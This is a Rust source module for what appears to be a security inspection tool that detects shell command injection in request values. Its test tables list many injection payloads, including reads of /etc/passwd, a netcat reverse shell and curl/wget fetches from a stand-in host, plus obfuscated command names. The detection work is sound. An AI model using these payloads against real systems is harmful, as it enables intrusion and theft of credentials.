//! Reads a value as a piece of a command line, of a Unix shell or of Windows.
//!
//! A command stands at the start of the value, or after something that begins one: a separator or
//! a substitution. There a word is read as a shell reads it, without the quotes, backslashes and
//! empty expansions that hide it, and looked up. Many commands are words of English as well, so
//! what follows must then look like arguments, too.

mod commands;
mod parameter;
mod pattern;
mod starts;
mod weight;
mod word;

use super::super::value::{Place, Value};
use super::{Kinds, Signal, Signals};
use commands::{Known, known};
pub(in crate::inspect) use parameter::is_about_its_name;
pub(super) use parameter::is_run;
use starts::Starts;
use word::{After, Word};

/// The most places of one value in which a command is looked for.
const STARTS: usize = 512;

/// What a value is as a command line.
pub(super) fn read(text: &[u8], value: &Value<'_>, kinds: Kinds) -> Signals {
    let mut signals = Signals::default();
    let text = if value.is_name { without_escape(text) } else { text };
    // Browsers write these with semicolons and slashes of their own.
    let is_agent = value.place == Place::Agent;
    if !is_agent && !value.is_name {
        line(text, &mut signals);
    }
    if kinds.has(Kinds::GLOB) && kinds.has(Kinds::SLASH) && pattern::names_a_target(text) {
        signals.add(Signal::ShellPattern);
    }
    if !kinds.has(Kinds::SHELL) {
        return signals;
    }
    let lines = Lines::of(text, kinds);
    let mut places = Starts::of(text, kinds);
    let (mut starts, mut at) = (0, 0);
    while let Some(place) = places.next(at) {
        starts += 1;
        if starts > STARTS {
            break;
        }
        at = start(text, place, &lines, is_agent, &mut signals);
    }
    signals
}

/// The name of a parameter without what is left of an ampersand that pages escaped twice: `amp;id`.
fn without_escape(mut name: &[u8]) -> &[u8] {
    while let Some(rest) = name.strip_prefix(b"amp;") {
        name = rest;
    }
    name
}

/// How the lines of a value look: in a text of many, a line that begins with a command is a
/// listing and no injection.
struct Lines {
    few: bool,
    /// The first byte that is no white space.
    first: u8,
    /// Where anything but white space, quotes and brackets that close begins.
    lead: usize,
}

impl Lines {
    fn of(text: &[u8], kinds: Kinds) -> Self {
        let many = || memchr::memchr_iter(b'\n', text).nth(2).is_some();
        let opens = |b: &u8| matches!(b, b' ' | b'"' | b'\'' | b')');
        Self {
            few: text.len() < 400 && !(kinds.has(Kinds::BREAK) && many()),
            first: text.trim_ascii_start().first().copied().unwrap_or(0),
            lead: text.iter().position(|b| !opens(b)).unwrap_or(text.len()),
        }
    }
}

/// The value from its beginning.
fn line(text: &[u8], signals: &mut Signals) {
    if word::is_no_command(text, 0) {
        return;
    }
    let mut word = word::read(text, 0);
    if commands::is_runner(word.name()) && word.after == After::Argument {
        let next = word::read(text, word.end);
        if known(next.name()) == Some(Known::Command)
            && !matches!(next.after, After::Name | After::Argument)
        {
            word = next;
            signals.add(Signal::ShellLine);
        }
    }
    if word.has_path && word.command_directory() {
        if known(word.name()).is_some() && word.after != After::Name {
            signals.add(Signal::ShellLine);
        }
        return;
    }
    let known = known(word.name());
    // No element has the name of what is nothing but a command; a heading may, with a capital.
    let may_select = known != Some(Known::Command) || text[0].is_ascii_uppercase();
    if word.after == After::Separator && may_select && is_selector(text) {
        return;
    }
    let fits = match known {
        Some(Known::Command) => {
            matches!(word.after, After::Option | After::Path | After::Expansion | After::Separator)
                || word.after == After::Argument && has_arguments(&text[word.end..])
                || memchr::memchr(b'-', word.name()).is_some() && text.len() < 80
                || word.is_broken && text.len() < 80
        }
        Some(Known::Tool) => {
            matches!(word.after, After::Option | After::Expansion)
                || word.after == After::Separator && ends_a_command(&text[word.end..])
                || word.after == After::Path && word.slash_follows
        }
        Some(Known::Short) => {
            matches!(word.after, After::Path | After::Expansion)
                || word.after == After::Separator && ends_a_command(&text[word.end..])
                || word.hidden && word.after == After::End && text.len() < 8
                || word.is_broken && word.name().len() > 2 && text.len() < 80
        }
        Some(Known::Prose) => {
            word.after == After::Expansion || word.after == After::Path && word.hidden
        }
        None => false,
    };
    if fits {
        signals.add(Signal::ShellLine);
    }
}

/// Whether a text is a path of elements, as what records clicks names them: `tr > td > a.x`.
fn is_selector(text: &[u8]) -> bool {
    let is_step = |part: &[u8]| part.first().is_some_and(u8::is_ascii_alphabetic);
    memchr::memmem::find_iter(text, b" > ").nth(1).is_some()
        && text.split(|&b| b == b'>').take(16).all(|part| is_step(part.trim_ascii()))
}

/// Whether a separator ends a command: nothing follows it, or another command does. `cat; dog` and
/// `ID | name` are lists.
fn ends_a_command(text: &[u8]) -> bool {
    let separator =
        |b: &u8| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b')' | b'`');
    let Some(start) = text.iter().take(64).position(|b| !separator(b)) else { return true };
    let next = word::read(text, start);
    !next.name().first().is_some_and(u8::is_ascii_alphabetic)
        || next.has_path
        || matches!(known(next.name()), Some(Known::Command | Known::Tool | Known::Short))
}

/// Whether words are arguments of a command: an option, a path or a pipe is among the first.
fn has_arguments(text: &[u8]) -> bool {
    let near = &text[..text.len().min(80)];
    let mut words = near.split(|b| matches!(b, b' ' | b'\t' | b'+')).filter(|w| !w.is_empty());
    let is_argument = |word: &[u8]| match word {
        [b'-', b'-', x, ..] | [b'-', x] => x.is_ascii_alphabetic(),
        [b'/', x, ..] => x.is_ascii_lowercase(),
        [b'|'] | [b'>'] | [b'>', b'>'] => true,
        _ => word.starts_with(b"http://") || word.starts_with(b"https://"),
    };
    words.clone().count() <= 8 && words.any(is_argument)
}

/// Looks at what begins at `at`; gives where to look on.
fn start(text: &[u8], at: usize, lines: &Lines, is_agent: bool, signals: &mut Signals) -> usize {
    let b = text[at];
    let next = text.get(at + 1).copied().unwrap_or(0);
    let from = match b {
        b'$' | b'<' | b'>' if next == b'(' => {
            if b == b'$' && text.get(at + 2) == Some(&b'(') {
                return at + 3;
            }
            at + 2
        }
        b'$' | b'<' | b'>' => return at + 1,
        // `{cat,/etc/passwd}`
        b'{' => {
            braces(text, at, signals);
            return at + 1;
        }
        b'\n' if !lines.few => return at + 1,
        b'`' | b'\n' => at + 1,
        _ => at + 1 + usize::from(next == b),
    };
    // Mostly it is, and nothing that stands before it matters.
    if word::is_no_command(text, from) {
        return from;
    }
    let sure = match b {
        b'$' | b'<' | b'>' => true,
        b'`' => {
            let before = if at == 0 { 0 } else { text[at - 1] };
            // In prose such marks stand around words.
            let first = lines.first;
            let whole = first.is_ascii_alphabetic() || matches!(first, b'>' | b'<' | b'*' | b'-');
            let goes_on = || {
                let end = memchr::memchr(b'`', &text[at + 1..]);
                end.is_some_and(|end| is_prose_next(&text[at + end + 2..]))
            };
            let marked = text.len() > 30 && (before == b' ' && whole || goes_on());
            if marked || is_prose(&text[..at]) || before == b'`' || next == b'`' {
                return from;
            }
            true
        }
        // A word, a line break, a command, and no more.
        b'\n' => text.len() < 80 && memchr::memchr(b' ', &text[..at]).is_none(),
        _ => {
            let doubled = next == b;
            // `Title | Site`, `salt & pepper`: not sure. `x; y` and `x;y` are.
            let spaced = at > 0 && text[at - 1] == b' ' && next == b' ' && b != b';';
            if spaced && is_prose(&text[..at]) {
                return from;
            }
            let before = text[..at].trim_ascii_end().last().copied();
            doubled && b != b';'
                || b == b'|' && at > 0 && text[0] == b'/' && !spaced
                || !spaced && before.is_none_or(|before| b == b';' || !is_listed(before))
                || spaced && at < 3
        }
    };
    let mut word = word::read(text, from);
    // A command that runs another.
    for _ in 0..2 {
        if !commands::is_runner(word.name()) || word.end >= text.len() {
            break;
        }
        let next = word::read(text, word.end);
        if known(next.name()).is_none() {
            break;
        }
        word = next;
    }
    // Nothing but white space and quotes stands before it: what would be separated?
    let leads = at <= lines.lead && (b != b'&' || from > at + 1 || next == b' ');
    judge(text, &word, Start { at, separator: b, sure, leads }, is_agent, signals);
    from
}

/// Where a word stands.
#[derive(Clone, Copy)]
struct Start {
    /// The offset of what it stands behind.
    at: usize,
    /// What it stands behind.
    separator: u8,
    /// Whether that is the separator of commands, and no other sign.
    sure: bool,
    /// Whether the value begins with it.
    leads: bool,
}

/// Whether a text has the look of a sentence: several words of letters.
fn is_prose(text: &[u8]) -> bool {
    let near = &text[text.len().saturating_sub(200)..];
    let is_word =
        |word: &&[u8]| word.len() > 1 && word.iter().all(|b| b.is_ascii_alphabetic() || *b >= 0x80);
    near.split(|b| matches!(b, b' ' | b'\n')).filter(is_word).take(2).count() == 2
}

/// Whether a sentence goes on with words after a marked one.
fn is_prose_next(text: &[u8]) -> bool {
    let text = text.strip_prefix(b",").unwrap_or(text);
    text.first() == Some(&b' ') && is_prose(&text[..text.len().min(40)])
}

/// Whether a separator behind such a byte may be one of a list: `a|b|c`, `R&D`.
fn is_listed(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-') || b >= 0x80
}

fn judge(word_text: &[u8], word: &Word, start: Start, is_agent: bool, signals: &mut Signals) {
    let Start { at, separator, sure, leads } = start;
    let is_short = word_text.len() < 16;
    // What has no spaces over so many bytes is a token or the data of a sensor.
    let sure = sure && (is_token_free(word_text) || word.has_path);
    // `It was closed; see /help` is a sentence.
    let sentence =
        separator == b';' && word_text.get(at + 1) == Some(&b' ') && is_prose(&word_text[..at]);
    let substitution = matches!(separator, b'$' | b'<' | b'>' | b'`');
    let Some(known) = known(word.name()) else { return };
    if is_agent && !substitution && !matches!(word.after, After::Option | After::Path) {
        return;
    }
    let command = match (known, word.after) {
        (_, After::Name) => return,
        (_, After::Option | After::Expansion) => true,
        (_, After::Path) => known != Known::Prose || sure && !sentence || word.hidden,
        (_, After::Separator) if known != Known::Prose => sure,
        (Known::Command, _) => sure,
        (Known::Tool, After::End) => sure && separator != b'\n',
        (Known::Tool | Known::Short, After::Argument) if leads && separator != b'\n' => true,
        (Known::Tool, _) => substitution || sure && has_arguments(&word_text[word.end..]),
        (Known::Short, After::End) => sure,
        (Known::Short, _) => {
            let behind = &word_text[word.end..];
            substitution
                || sure && word.digits_follow && weight::argument(word.name(), behind, known) > 0
        }
        (Known::Prose, After::Separator | After::End) => {
            substitution && word.after == After::Separator
                || sure && separator == b'|'
                || sure && separator == b';' && is_short && !word_text.contains(&b' ')
        }
        (Known::Prose, After::Argument) => false,
    };
    let is_command = || word.has_path && word.command_directory();
    if command || is_command() || !is_agent && weight::is_command(word_text, at, word, known) {
        signals.add(Signal::ShellCommand);
    } else if !matches!(word.after, After::Argument) && known != Known::Prose {
        signals.add(Signal::ShellWord);
    }
    if word.hidden && word.name().len() > 1 {
        signals.add(Signal::ShellHidden);
    }
}

/// Whether a text is short, or has spaces.
fn is_token_free(text: &[u8]) -> bool {
    text.len() < 150 || memchr::memchr(b' ', text).is_some()
}

fn braces(text: &[u8], at: usize, signals: &mut Signals) {
    let inside = &text[at + 1..text.len().min(at + 66)];
    let Some(comma) = memchr::memchr2(b',', b'}', inside) else { return };
    let word = word::read(inside, 0);
    if inside[comma] == b',' && matches!(known(word.name()), Some(Known::Command | Known::Short)) {
        let rest = &inside[comma + 1..];
        let first = rest.first().copied().unwrap_or(0);
        if matches!(first, b'-' | b'/' | b'}' | b'.' | b'$' | b'\'' | b'"') || word.hidden {
            signals.add(Signal::ShellCommand);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::inspect::detect::Signal;
    use crate::inspect::detect::tests::{query, table};

    #[test]
    fn commands() {
        table(
            Signal::ShellCommand,
            &[
                "; cat /etc/passwd",
                "a;id;",
                "x|/usr/bin/id",
                "&& whoami",
                "|| curl http://e.test/x",
                "$(id)",
                "`id`",
                "x; c\\at /etc/passwd",
                "x; w'h'oami",
                "8.8.8.8 & dir c:\\",
                "8.8.8.8; ping -c 3 e.test",
                "1;sleep 5",
                "x\nid",
                "{cat,/etc/passwd}",
                "; time sh -c whoami",
                "x | nc -e /bin/sh e.test 80",
                ";ps aux",
                "|echo abcdef",
                "& echo hello &",
                ";ssh user@e.test",
                "&& uptime",
                "8.8.8.8; git status; #",
                "1' ; nslookup e.test ;",
                "8.8.8.8|{ uname; }",
                "1'&&net users",
                "x.jpg&&tasklist",
                "127.0.0.1 & ipconfig /all",
                "a.txt|regsvr32 /s x.dll",
                "\");ip addr|",
                "e.test\r\nnproc",
                "1| getconf PATH #",
                "v$(which id)",
                "1;id\\\\",
                "x.jpg||whoami//",
                "1;$'id'",
            ],
            &[
                "red|cat|dog",
                "12345|cat|x",
                "./configure && make",
                "data:image/png;base64,iVBORw0K",
                "best; top 10 lists",
                "git|curl",
                "12\" pizza & top hits",
                "Ben & Jerry | time to eat",
                "tea; more",
                "&ping=1",
                "& more",
                "R&D",
                "one; time to go",
                "cats & dogs; find out more",
                "id|title|date",
                "color:red; top:0; cursor:pointer",
                "a=1; id=5",
                "Open Sans:300,700|Open Sans:300|Indie Flower:regular|Lato:100",
                "$('#id').find('x')",
                "rock & roll; sort of",
                "fish & chips | who said that",
                "Something \u{201c}The Title\u{201d}. After ;top something",
                "> Use `git log` or `ls -la | grep txt`; works for me",
                "<p>salt & more</p>",
            ],
        );
    }

    #[test]
    fn lines() {
        table(
            Signal::ShellLine,
            &[
                "cat /etc/passwd",
                "/usr/bin/id",
                "wget http://e.test/x",
                "id;",
                "/bin/bash -i",
                "w^ho^ami",
                "p^ing e.test",
                "regsvr32 /s x.dll",
                "uname > a > out.txt",
                "strace ifconfig",
            ],
            &[
                "cat food",
                "find my phone",
                "id card",
                "ping pong tables",
                "who is it",
                "/bin",
                "cat; dog",
                "ID | name",
                "top{left:0}",
                "tr > td > ul > li > a.item",
                "who's that",
                "'cat' and 'dog'",
            ],
        );
        assert!(query("/e??/p?ss?d").has(Signal::ShellPattern));
        assert!(!query("*/5 * * * *").has(Signal::ShellPattern));
        assert!(!query("/api/*/items").has(Signal::ShellPattern));
    }
}
